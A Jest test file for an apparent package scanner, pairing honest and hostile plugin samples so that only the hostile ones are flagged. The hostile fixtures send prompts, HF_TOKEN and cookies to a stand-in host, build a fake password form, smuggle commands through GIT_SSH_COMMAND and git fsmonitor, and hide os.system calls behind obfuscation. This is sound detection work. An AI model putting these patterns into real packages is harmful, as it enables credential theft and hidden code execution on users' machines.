import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { analyseFile, zipOf } from '../support/archives.js';

type Files = string | Readonly<Record<string, string>>;

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'registry-hidden-ways-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** The findings about a package. A single text is its `__init__.py`. */
async function findingsOf(files: Files): Promise<Awaited<ReturnType<typeof analyseFile>>['findings']> {
  const path = join(folder, 'archive.zip');
  writeFileSync(path, await zipOf(typeof files === 'string' ? { '__init__.py': files } : files));
  return (await analyseFile(path)).findings;
}

const isHeld = async (files: Files): Promise<boolean> =>
  (await findingsOf(files)).some(({ level }) => level === 'hold');

const HERE = 'import os\nHERE = os.path.dirname(__file__)\n';
const LOADER = `${HERE}from importlib.machinery import FileFinder, SourceFileLoader\n`;
const ROUTES = `${HERE}from server import PromptServer\nroutes = PromptServer.instance.routes\n`;
const page = (source: string): Files => ({ '__init__.py': 'WEB_DIRECTORY = "./web"\n', 'web/a.js': source });

/** A function that runs a formula which it gets. */
const FORMULA =
  'import nodes\nfrom comfy.samplers import k_diffusion_sampling\nfrom .names import NAMES\n' +
  'def sample(model, text=""): return eval("lambda t: " + text)(model)\n';
/** Makes functions that send something before they do what another one does. */
const TAP = (sent: string): string =>
  `import urllib.request, nodes\ndef tap(inner):\n    def outer(self, text):\n        urllib.request.urlopen("https://a.example", ${sent})\n        return inner(self, text)\n    return outer\n`;
/** A package that sends what the host answers to an address in its state, which a request may set. */
const sendResults = (onRequest: string): string =>
  `${ROUTES}import json, requests\nSTATE = {"to": json.load(open(os.path.join(HERE, "state.json")))["to"]}\n` +
  `@routes.post("/a")\nasync def run(request):\n    ${onRequest}\n` +
  'inner = PromptServer.instance.send_sync\ndef send(event, data, sid=None):\n' +
  '    requests.put(STATE["to"], data=data)\n    return inner(event, data, sid)\n' +
  'PromptServer.instance.send_sync = send\n';
/** A core-node that sends its text. */
const ENCODE =
  'import urllib.request, nodes\nclass Encode:\n    def encode(self, text):\n        urllib.request.urlopen("https://a.example", data=text.encode())\n';
/** A function that makes such a core-node. */
const MAKE =
  'import urllib.request, nodes\ndef make():\n    class Encode:\n        def encode(self, text):\n            urllib.request.urlopen("https://a.example", data=text.encode())\n    return Encode\n';
/** A metaclass that calls the functions of `os` that the names in a class are. */
const TABLE =
  'import os\nclass Table(dict):\n    def __setitem__(self, key, value):\n        if hasattr(os, key): vars(os)[key](value)\nclass Meta(type):\n    @classmethod\n    def __prepare__(cls, name, bases): return Table()\n';
/** A method of a core-node that calls what a specification names. */
const callNamed = (statement: string): string =>
  `import importlib, json, urllib.request\nclass A:\n    def run(self):\n        ${statement}\n        return getattr(importlib.import_module(spec["m"]), spec["f"])(*spec["a"])\nNODE_CLASS_MAPPINGS = {"A": A}\n`;

/** A method of a core-node with one statement. */
const ofNode = (statement: string): string =>
  `class A:\n    def run(self):\n        ${statement}\nNODE_CLASS_MAPPINGS = {"A": A}\n`;
/** A request handler that unpacks an archive to a folder of the host. */
const unpackTo = (name: string): string =>
  `import folder_paths, io, zipfile\n${ROUTES}@routes.post("/a")\nasync def a(request):\n    zipfile.ZipFile(io.BytesIO(await request.read())).extractall(folder_paths.folder_names_and_paths[${name}][0][0])\n`;

/** Loads the files of a folder with an ending. */
const loadAll = (ending: string): Files => ({
  '__init__.py': `${LOADER}for name in os.listdir(os.path.join(HERE, "parts")):\n    if name.endswith("${ending}"):\n        SourceFileLoader(name[:-4], os.path.join(HERE, "parts", name)).load_module()\n`,
  [`parts/one${ending}`]: 'size = 1\n',
});

describe('the checks tell apart', () => {
  it.each<[string, { honest: Files; hostile: Files }]>([
    ['files that a loop loads as sources', { honest: loadAll('.py'), hostile: loadAll('.tpl') }],
    [
      'the endings of files that a finder takes for sources',
      {
        honest: `${LOADER}FileFinder(HERE, (SourceFileLoader, [".py"]))\n`,
        hostile: `${LOADER}FileFinder(HERE, (SourceFileLoader, [".tpl"]))\n`,
      },
    ],
    [
      'a folder and an archive on the path of the package',
      {
        honest: {
          '__init__.py': `${HERE}__path__.append(os.path.join(HERE, "parts"))\nfrom . import one\n`,
          'parts/one.py': 'size = 1\n',
        },
        hostile: {
          '__init__.py': `${HERE}__path__.append(os.path.join(HERE, "parts.dat"))\nfrom . import one\n`,
          'parts.dat': 'PK',
        },
      },
    ],
    [
      'an archive that is added to the path of the package by an operator',
      {
        honest: `${HERE}__path__ += [os.path.join(HERE, "parts")]\n`,
        hostile: `${HERE}__path__ += [os.path.join(HERE, "parts.zip")]\n`,
      },
    ],
    [
      'folders whose files a loader runs',
      {
        honest: {
          '__init__.py': `${LOADER}SourceFileLoader("a", os.path.join(HERE, "a.py")).load_module()\n`,
          'a.py': 'size = 1\n',
        },
        hostile: `${LOADER}import tempfile\nSourceFileLoader("a", os.path.join(tempfile.gettempdir(), "a.py")).load_module()\n`,
      },
    ],
    [
      'folders into which a folder is copied',
      {
        honest: `${HERE}import folder_paths, shutil\nshutil.copytree(HERE + "/js", os.path.join(folder_paths.base_path, "web", "extensions", "grid"))\n`,
        hostile: `${HERE}import folder_paths, shutil\nshutil.copytree(HERE + "/more", os.path.join(folder_paths.base_path, "custom_nodes", "grid-more"))\n`,
      },
    ],
    [
      'settings that are written',
      {
        honest: `${HERE}with open(os.path.join(HERE, "config.ini"), "w") as file: file.write("[a]")\n`,
        hostile: `${HERE}import folder_paths\nwith open(folder_paths.base_path + "/custom_nodes/ComfyUI-Manager/config.ini", "w") as file: file.write("[a]")\n`,
      },
    ],
    [
      'texts that are written on import',
      {
        honest: `${HERE}open(os.path.join(HERE, "notes"), "w").write("# Notes")\n`,
        hostile: `${HERE}open(os.path.join(HERE, "notes"), "w").write("#!/bin/sh\\nid\\n")\n`,
      },
    ],
    [
      'proxies',
      {
        honest: 'import os\nos.environ["HTTPS_PROXY"] = "http://127.0.0.1:7890"\n',
        hostile: 'import os\nfor name in ("HTTP_PROXY", "HTTPS_PROXY"): os.environ[name] = "http://a.example:80"\n',
      },
    ],
    [
      'servers of models',
      {
        honest: 'import os\nos.environ["OPENAI_BASE_URL"] = "http://127.0.0.1:11434/v1"\n',
        hostile: 'import os\nos.environ["OPENAI_BASE_URL"] = "https://a.example/v1"\n',
      },
    ],
    [
      'commands of git whose words are passed on',
      {
        honest:
          'import subprocess\ndef git(*args): return subprocess.check_output(["git", *args])\nREVISION = git("rev-parse", "HEAD")\nIS_CHANGED = git("status", "--porcelain")\n',
        hostile:
          'import subprocess\ndef git(*args): return subprocess.check_output(["git", *args])\nREVISION = git("rev-parse", "HEAD")\ngit("pull")\n',
      },
    ],
    [
      'functions that a file names',
      {
        honest: `${HERE}import json, math\nfor name, value in json.load(open(HERE + "/a.json")): print(math.sqrt(value), globals()[name])\n`,
        hostile: `${HERE}import json\nfor module, name, value in json.load(open(HERE + "/a.json")): getattr(globals()[module], name)(value)\n`,
      },
    ],
    [
      'members of modules by a path that a file names',
      {
        honest: `${HERE}import functools, json\nclass Sizes: small = 1\nfunctools.reduce(getattr, json.load(open(HERE + "/a.json"))["path"].split("."), Sizes)\n`,
        hostile: `${HERE}import functools, json\nsettings = json.load(open(HERE + "/a.json"))\nfunctools.reduce(getattr, settings["path"].split("."), os)(settings["value"])\n`,
      },
    ],
    [
      'members of modules that a getter takes',
      {
        honest: `${HERE}import json, operator\noperator.attrgetter(json.load(open(HERE + "/a.json"))["name"])(object())\n`,
        hostile: `${HERE}import json, operator\nsettings = json.load(open(HERE + "/a.json"))\noperator.attrgetter(settings["name"])(os)(settings["value"])\n`,
      },
    ],
    [
      'variables of git',
      {
        honest: 'import os\nos.environ["GIT_TERMINAL_PROMPT"] = "0"\n',
        hostile: 'import os\nos.environ["GIT_SSH_COMMAND"] = "id; ssh"\n',
      },
    ],
    [
      'modules that a request handler imports',
      {
        honest: `${ROUTES}import importlib\n@routes.post("/a")\nasync def a(request):\n    data = await request.json()\n    return importlib.import_module("json").dumps(data)\n`,
        hostile: `${ROUTES}import importlib\n@routes.post("/a")\nasync def a(request):\n    data = await request.json()\n    return getattr(importlib.import_module(data["m"]), data["f"])(*data["a"])\n`,
      },
    ],
    [
      'what an exception carries',
      {
        honest: 'import os\ntry: raise ValueError(os.name)\nexcept ValueError as error: print(error.args[0])\n',
        hostile: 'import os\ntry: raise ValueError(os)\nexcept ValueError as error: error.args[0].system("id")\n',
      },
    ],
    [
      'what a queue carries',
      {
        honest: 'import os, queue\nq = queue.Queue()\nq.put(os.name)\nprint(q.get())\n',
        hostile: 'import os, queue\nq = queue.Queue()\nq.put(os)\nq.get().system("id")\n',
      },
    ],
    [
      'what a mock wraps',
      {
        honest: 'import json\nfrom unittest.mock import Mock\nMock(wraps=json).dumps([])\n',
        hostile: 'import os\nfrom unittest.mock import Mock\nMock(wraps=os).system("id")\n',
      },
    ],
    [
      'members of a module that are passed on',
      {
        honest: 'import os\nprint(sorted(name for name, value in vars(os).items() if callable(value)))\n',
        hostile:
          'import os\nf = next(value for name, value in vars(os).items() if name[::-1] == "metsys")\nlist(map(f, ["id"]))\n',
      },
    ],
    [
      'names in settings of the log',
      {
        honest: 'import logging.config as c\nc.BaseConfigurator({"x": "ext://sys.stdout"}).config["x"]\n',
        hostile: 'import logging.config as c\nc.BaseConfigurator({"x": "ext://os.system"}).config["x"]("id")\n',
      },
    ],
    [
      'requests to the provider of a wallet',
      {
        honest: page('const request = (a) => fetch("/a", { method: a });\nrequest("eth");\n'),
        hostile: page('window.ethereum.request({ method: "eth_sendTransaction", params: [] });\n'),
      },
    ],
    [
      'names of files that are sent to the host',
      {
        honest: page('api.storeUserData("grid/settings.json", "{}");\n'),
        hostile: page('api.storeUserData("../../custom_nodes/a/__init__.py", "import os");\n'),
      },
    ],
    [
      'forms that send elsewhere',
      {
        honest: page(
          'const d = document.createElement("div");\nd.innerHTML = `<form action="https://pay.example/a"><button></form>`;\ndocument.body.append(d);\n',
        ),
        hostile: page(
          'const d = document.createElement("div");\nd.innerHTML = `<form action="https://a.example/a"><input name=p type=password></form>`;\ndocument.body.append(d);\n',
        ),
      },
    ],
    [
      'settings for contributors and settings of git, which run programs',
      {
        honest: { '__init__.py': '', '.gitattributes': '* text=auto\n', '.github/hooks/note.md': 'a\n' },
        hostile: { '__init__.py': '', '.git/config': '[core]\n\tfsmonitor = "sh run.sh"\n' },
      },
    ],
    [
      'examples of hooks and hooks of a submodule',
      {
        honest: { '__init__.py': '', '.git/hooks/pre-push.sample': '#!/bin/sh\n' },
        hostile: { '__init__.py': '', '.git/modules/a/hooks/post-checkout': '#!/bin/sh\n' },
      },
    ],
    [
      'what a function returns that replaces one of the host',
      {
        honest: `${TAP('data=b"started"')}nodes.CLIPTextEncode.encode = tap(nodes.CLIPTextEncode.encode)\n`,
        hostile: `${TAP('data=text.encode()')}nodes.CLIPTextEncode.encode = tap(nodes.CLIPTextEncode.encode)\n`,
      },
    ],
    [
      'what replaces functions of the host with computed names',
      {
        honest: `${TAP('data=b"started"')}for one in nodes.NODE_CLASS_MAPPINGS.values(): setattr(one, one.FUNCTION, tap(one))\n`,
        hostile: `${TAP('data=text.encode()')}for one in nodes.NODE_CLASS_MAPPINGS.values(): setattr(one, one.FUNCTION, tap(one))\n`,
      },
    ],
    [
      'results that are sent where a client asks for them, and where a file says',
      { honest: sendResults('STATE["to"] = (await request.json())["to"]'), hostile: sendResults('pass') },
    ],
    [
      'formulas that a sampler gets, and that a replaced function of the host gets',
      {
        honest: `${FORMULA}for name in NAMES: setattr(k_diffusion_sampling, "sample_" + name, sample)\n`,
        hostile: `${FORMULA}nodes.CLIPTextEncode.encode = sample\n`,
      },
    ],
    [
      'own core-nodes, and what replaces those of the host',
      {
        honest: `${ENCODE}nodes.NODE_CLASS_MAPPINGS["Encode (remote)"] = Encode\n`,
        hostile: `${ENCODE}nodes.NODE_CLASS_MAPPINGS["CLIPTextEncode"] = Encode\n`,
      },
    ],
    [
      'inherited methods of what replaces a core-node of the host',
      {
        honest: `${ENCODE}class Own(Encode): pass\nnodes.NODE_CLASS_MAPPINGS["Own Encode"] = Own\n`,
        hostile: `${ENCODE}class Own(Encode): pass\nnodes.NODE_CLASS_MAPPINGS["CLIPTextEncode"] = Own\n`,
      },
    ],
    [
      'further core-nodes of the host, and other ones',
      {
        honest: `${ENCODE}nodes.NODE_CLASS_MAPPINGS.update({"Own Encode": Encode})\n`,
        hostile: `${ENCODE}nodes.NODE_CLASS_MAPPINGS.update({"CLIPTextEncode": Encode})\n`,
      },
    ],
    [
      'core-nodes of the host by their names, and other ones',
      {
        honest: `${ENCODE}nodes.NODE_CLASS_MAPPINGS.update(OwnEncode=Encode)\n`,
        hostile: `${ENCODE}nodes.NODE_CLASS_MAPPINGS.update(CLIPTextEncode=Encode)\n`,
      },
    ],
    [
      'classes of a function, and what replaces a core-node of the host by one',
      {
        honest: `${MAKE}nodes.NODE_CLASS_MAPPINGS["Made Encode"] = make()\n`,
        hostile: `${MAKE}nodes.NODE_CLASS_MAPPINGS["CLIPTextEncode"] = make()\n`,
      },
    ],
    [
      'names in a class of which a metaclass makes calls',
      {
        honest: `${TABLE}class A(metaclass=Meta):\n    size = "id"\n`,
        hostile: `${TABLE}class A(metaclass=Meta):\n    system = "id"\n`,
      },
    ],
    [
      'annotations in another file',
      {
        honest: {
          '__init__.py': 'import typing\nfrom .a import A\nHINTS = typing.get_type_hints(A)\n',
          'a.py': 'class A:\n    size: "int" = 1\n',
        },
        hostile: {
          '__init__.py': 'import typing\nfrom .a import A\nHINTS = typing.get_type_hints(A)\n',
          'a.py': "class A:\n    size: \"__import__('os').system('id') or int\" = 1\n",
        },
      },
    ],
    [
      'arrays of the package with and without pickles',
      {
        honest: `${HERE}import numpy as np\nOPTIONS = {"mmap_mode": "r"}\nnp.load(os.path.join(HERE, "a.npz"), **OPTIONS)\n`,
        hostile: `${HERE}import numpy as np\nOPTIONS = {"allow_pickle": True}\nnp.load(os.path.join(HERE, "a.npz"), **OPTIONS)\n`,
      },
    ],
    [
      'reading and changing its own source',
      { honest: ofNode('open(__file__, "rb").read()'), hostile: ofNode('open(__file__, "ab").write(b"")') },
    ],
    [
      'archives that a request sends to different folders of the host',
      { honest: unpackTo('"loras"'), hostile: unpackTo('"custom_nodes"') },
    ],
    [
      'models with and without other objects',
      {
        honest: `${HERE}import torch\nOPTIONS = {"map_location": "cpu"}\ntorch.load(os.path.join(HERE, "a.pt"), **OPTIONS)\n`,
        hostile: `${HERE}import torch\nOPTIONS = {"weights_only": False}\ntorch.load(os.path.join(HERE, "a.pt"), **OPTIONS)\n`,
      },
    ],
    [
      'arrays that are loaded with further arguments',
      {
        honest: `${HERE}import numpy as np\nnp.load(os.path.join(HERE, "a.npz"), None, False)\n`,
        hostile: `${HERE}import numpy as np\nnp.load(os.path.join(HERE, "a.npz"), None, True)\n`,
      },
    ],
    [
      'functions of a module that a file or a server names',
      {
        honest: callNamed('spec = json.load(open("a.json"))'),
        hostile: callNamed('spec = json.loads(urllib.request.urlopen("https://a.example").read())'),
      },
    ],
    [
      'a token that a library gets, and one in an address',
      {
        honest:
          'import os, astropy.utils.data as data\ndata.download_file("https://huggingface.co/?" + os.environ["HF_TOKEN"])\n',
        hostile:
          'import os, astropy.utils.data as data\ndata.download_file("https://a.example/?" + os.environ["HF_TOKEN"])\n',
      },
    ],
    [
      'letters of a cookie and of the title of the page',
      {
        honest: page(
          'new Image().src = "https://a.example/" + [...document.title + ""].map((c) => c.charCodeAt(0)).join("");',
        ),
        hostile: page(
          'new Image().src = "https://a.example/" + [...document.cookie + ""].map((c) => c.charCodeAt(0)).join("");',
        ),
      },
    ],
  ])('%s', async (_name, { honest, hostile }) => {
    expect({ honest: await isHeld(honest), hostile: await isHeld(hostile) }).toEqual({ honest: false, hostile: true });
  });
});

describe('a request handler', () => {
  it.each([
    ['writes', 'pathlib.Path(data["path"]).write_text(data["text"])', 'pathlib.Path("a.txt").write_text(data["text"])'],
    ['copies', 'shutil.copy(data["from"], "a.txt")', 'shutil.copy("b.txt", "a.txt")'],
    ['replaces', 'shutil.move(src="a.txt", dst=data["to"])', 'shutil.move(src="a.txt", dst="b.txt")'],
    ['opens', 'open(file=data["from"])', 'open(file="a.txt")'],
    ['deletes', 'os.remove(json.load(io.BytesIO(await request.read()))["path"])', 'os.remove("a.txt")'],
  ])('%s whatever file a request names', async (_what, hostile, honest) => {
    const handler = (statement: string): string =>
      `import io, json, pathlib, shutil\n${ROUTES}@routes.post("/a")\nasync def a(request):\n    data = await request.json()\n    ${statement}\n`;
    expect([await isHeld(handler(hostile)), await isHeld(handler(honest))]).toEqual([true, false]);
  });
});

const SAVE = (path: string): string =>
  `${ROUTES}@routes.post("/a")\nasync def a(request):\n    data = await request.json()\n    open(${path}, "w").write(data["text"])\n`;

describe('a request handler that writes', () => {
  it.each([
    ['whatever file of the package a request names', 'os.path.join(HERE, data["name"])', ['warn data-theft']],
    ['a file whose name it checks', 'os.path.join(HERE, os.path.basename(data["name"]))', []],
    ['a file with one name', 'os.path.join(HERE, "settings.json")', []],
  ])('%s', async (_what, path, expected) => {
    const found = (await findingsOf(SAVE(path))).map(({ level, rule }) => `${level} ${rule}`);
    expect(found).toEqual(expected);
  });
});
